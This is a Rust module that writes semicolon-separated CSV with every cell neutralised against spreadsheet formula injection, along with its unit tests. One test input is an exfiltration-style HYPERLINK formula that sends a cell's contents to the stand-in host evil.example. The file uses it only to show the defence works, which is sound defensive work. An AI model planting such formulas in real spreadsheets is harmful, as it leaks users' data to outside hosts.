//! Every CSV Passerelle writes (trace exports, annexe 1) goes through [`write`]: `;` as the
//! separator, as French spreadsheets expect, and every cell neutralised against formula
//! injection (OWASP's rule): a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
//! return gets a leading `'`, so that a spreadsheet shows it as text instead of running it
//! (and so does a cell that already begins with `'`, so that the mark is never ambiguous).
//! [`restore`] takes that mark off again where Passerelle reads its own CSV back (annexe 1):
//! `restore(neutralise(x)) == x` for every cell.

use std::borrow::Cow;

const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as a spreadsheet may safely open it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(TRIGGERS) || cell.starts_with('\'') {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as it was before [`neutralise`] (a lone `'` before anything else is kept, as a
/// person may have typed it).
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(TRIGGERS) || rest.starts_with('\'') => rest,
        _ => cell,
    }
}

/// The CSV text of a header line and rows, every cell neutralised.
pub fn write<R, C>(headers: &[&str], rows: impl IntoIterator<Item = R>) -> String
where
    R: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    let mut writer = csv::WriterBuilder::new()
        .delimiter(b';')
        .from_writer(Vec::new());
    // Writing to memory cannot fail; a cell is never dropped silently either way.
    writer
        .write_record(headers.iter().map(|h| neutralise(h).into_owned()))
        .expect("CSV into memory");
    for row in rows {
        writer
            .write_record(row.into_iter().map(|c| neutralise(c.as_ref()).into_owned()))
            .expect("CSV into memory");
    }
    String::from_utf8(writer.into_inner().expect("CSV into memory"))
        .expect("CSV of UTF-8 cells is UTF-8")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_come_back_unchanged() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"x\")",
            "+33 6 12",
            "-2+3",
            "@SUM(A1:A2)",
            "\tx",
            "\rx",
        ] {
            let safe = neutralise(cell);
            assert!(safe.starts_with('\''), "{cell:?}");
            assert_eq!(restore(&safe), cell);
        }
        for cell in ["Dubois", "", "a=b", "O'Neil"] {
            assert_eq!(neutralise(cell), cell);
            assert_eq!(restore(cell), cell);
        }
        for cell in ["'quoted", "'=1", "''"] {
            assert_eq!(neutralise(cell), format!("'{cell}"));
            assert_eq!(restore(&neutralise(cell)), cell);
        }
        assert_eq!(restore("'typed"), "'typed");
    }

    #[test]
    fn written_cells_are_neutralised_and_quoted_where_needed() {
        let text = write(&["a", "b"], [["=1+1", "x;y"]]);
        assert_eq!(text, "a;b\n'=1+1;\"x;y\"\n");
    }
}
